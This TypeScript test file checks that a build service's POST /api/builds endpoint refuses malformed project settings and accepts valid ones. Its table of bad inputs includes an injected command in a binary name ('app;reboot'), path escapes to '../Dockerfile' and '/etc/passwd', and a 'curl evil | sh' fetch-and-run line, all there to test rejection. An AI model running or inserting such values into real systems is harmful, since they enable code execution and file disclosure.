/**
 * `POST /api/builds` with the project file's settings (`project`, src/core/projectSettings.ts):
 * bad settings are refused with 400 naming the field and starting nothing; a build with no binary
 * from either the project or the environment is refused; good settings land in the build's input.
 */
import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach, describe, it } from "node:test";
import type { ErrorResponse, StartBuildResponse } from "../../src/core/api.js";
import type { BuildInput } from "../../src/core/buildInput.js";
import { cancelBuild } from "../../src/functions/cancelBuild.js";
import { setDeps } from "../../src/functions/deps.js";
import { startBuild } from "../../src/functions/startBuild.js";
import { call, cancelRunningBuilds, runsUntilStopped, startTestCloud, type TestCloud } from "./support.js";

const DIGEST = `sha256:${"a".repeat(64)}`;
const BASE_KEY = "0123456789abcdef".repeat(4);

/** Each bad `project` and the field its refusal names. */
const BAD: Array<[string, unknown, RegExp]> = [
  ["a binary with a space", { binary: "my app" }, /project\.binary: a cargo binary name/],
  ["a binary with a shell character", { binary: "app;reboot" }, /project\.binary/],
  ["port 0", { port: 0 }, /project\.port: must be 1-65535/],
  ["port 65536", { port: 65536 }, /project\.port: must be 1-65535/],
  ["a port that is a string", { port: "8080" }, /project\.port/],
  ["a fractional port", { port: 80.5 }, /project\.port: must be a whole number/],
  ["a bad feature", { features: ["ok", "no way"] }, /project\.features\.1: a cargo feature name/],
  ["a bad profile", { profile: "re lease" }, /project\.profile: a cargo profile name/],
  ["a bad target", { target: "x86 64" }, /project\.target: a target triple/],
  [
    "a Dockerfile outside the tree",
    { dockerfiles: { base: "../Dockerfile", app: "Dockerfile.app" } },
    /project\.dockerfiles\.base: a path inside the project/,
  ],
  [
    "an absolute Dockerfile path",
    { dockerfiles: { base: "Dockerfile.base", app: "/etc/passwd" } },
    /project\.dockerfiles\.app: a path inside the project/,
  ],
  [
    "a Dockerfile under .fastbuild",
    { dockerfiles: { base: ".fastbuild/kit/Dockerfile.base", app: "a" } },
    /project\.dockerfiles\.base/,
  ],
  ["half a Dockerfile pair", { dockerfiles: { base: "Dockerfile.base" } }, /project\.dockerfiles\.app/],
  ["an unknown setting", { script: "curl evil | sh" }, /script/],
];

describe("POST /api/builds with project settings", () => {
  let cloud: TestCloud;
  before(async () => {
    cloud = await startTestCloud();
    setDeps(cloud.deps);
  });
  after(async () => {
    setDeps(undefined);
    await cloud.stop();
  });
  beforeEach(() => {
    setDeps(cloud.deps);
    cloud.arm.setRunCommandExecutor(runsUntilStopped());
  });
  afterEach(() => cancelRunningBuilds(cloud, cancelBuild));

  const post = (body: unknown) =>
    call(cloud.rpc, startBuild, "startBuild", { method: "POST", path: "builds", body: JSON.stringify(body) });
  const request = (project: unknown) => ({
    environment: "dev",
    sourceDigest: DIGEST,
    baseKey: BASE_KEY,
    project,
  });
  const instanceCount = async () => (await cloud.engine.listInstances()).length;

  /** The test cloud with the dev environment's binaryName taken away (as after the project file). */
  function withoutEnvironmentBinary(): void {
    const { binaryName: _dropped, ...dev } = cloud.config.environments.dev!;
    setDeps({
      ...cloud.deps,
      config: { ...cloud.config, environments: { ...cloud.config.environments, dev } },
    });
  }

  for (const [name, project, message] of BAD) {
    it(`refuses ${name} with 400, naming the field, and starts nothing`, async () => {
      const before = await instanceCount();
      const res = await post(request(project));
      assert.equal(res.status, 400, res.text);
      const { error } = res.body as ErrorResponse;
      assert.equal(error.code, "InvalidRequest");
      assert.match(error.message, message);
      assert.equal(await instanceCount(), before);
    });
  }

  it("refuses a port the app's ingress does not send traffic to, saying both ways out, and starts nothing", async () => {
    const before = await instanceCount();
    // The test cloud's apps have ingress.targetPort 8080 (the emulator's default, as Azure's portal's).
    const res = await post(request({ binary: "app", port: 3000 }));
    assert.equal(res.status, 400, res.text);
    const { error } = res.body as ErrorResponse;
    assert.equal(error.code, "PortMismatch");
    assert.match(
      error.message,
      /sends its traffic to port 8080, but fast-build\.toml's \[container\] port is 3000/,
    );
    assert.match(error.hint ?? "", /\[container\] port = 8080.*--target-port 3000.*--no-deploy/);
    assert.equal(await instanceCount(), before);
  });

  it("does not ask the app about the port of a build that does not deploy", async () => {
    const res = await post({ ...request({ binary: "app", port: 3000 }), options: { deploy: false } });
    assert.equal(res.status, 202, res.text);
  });

  it("refuses a build whose project names no binary when the environment has none either", async () => {
    withoutEnvironmentBinary();
    const before = await instanceCount();
    for (const body of [
      request({ port: 8080 }),
      { environment: "dev", sourceDigest: DIGEST, baseKey: BASE_KEY },
    ]) {
      const res = await post(body);
      assert.equal(res.status, 400, res.text);
      const { error } = res.body as ErrorResponse;
      assert.equal(error.code, "BinaryNameMissing");
      assert.match(error.hint ?? "", /\[build\] binary = "NAME" in fast-build\.toml/);
    }
    assert.equal(await instanceCount(), before);
  });

  it("starts a build with the project's binary, or with its own Dockerfiles and no binary at all, and keeps the settings in its input", async () => {
    withoutEnvironmentBinary();
    const projects = [
      { binary: "server", features: ["metrics"], profile: "release", port: 8080 },
      { port: 8080, dockerfiles: { base: "Dockerfile.base", app: "Dockerfile.app" } },
    ];
    for (const project of projects) {
      const res = await post(request(project));
      assert.equal(res.status, 202, res.text);
      const { buildId } = res.body as StartBuildResponse;
      const input = (await cloud.engine.getStatus(buildId))?.input as BuildInput;
      assert.deepEqual(input.project, project);
    }
  });
});
